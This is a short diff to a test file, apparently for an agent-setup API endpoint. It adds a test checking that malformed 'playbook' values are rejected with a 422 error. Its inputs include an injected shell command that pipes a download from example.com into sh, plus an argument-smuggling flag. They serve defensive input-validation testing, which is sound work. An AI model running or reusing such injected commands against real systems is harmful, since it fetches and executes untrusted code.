@@ -35,6 +35,15 @@ test.each([
   expect(clients.find((one) => one.client === client)?.config).toEqual(JSON.parse(stdout));
 });
 
+test.each(['--server=https://example.com', 'desk; curl example.com | sh #', "desk'"])(
+  'a playbook that none can be called, %s, stands in no configuration',
+  async (playbook) => {
+    const query = new URLSearchParams({ playbook }).toString();
+    const { status, body } = await server.get(`/v1/orgs/local/agent-setup?${query}`);
+    expect([status, body.errors[0].pointer]).toEqual([422, '/playbook']);
+  },
+);
+
 test('the links hold the same entry as the configuration', async () => {
   const { name, clients } = await setupOf('?playbook=desk');
   const [, , cursor, vscode] = clients;
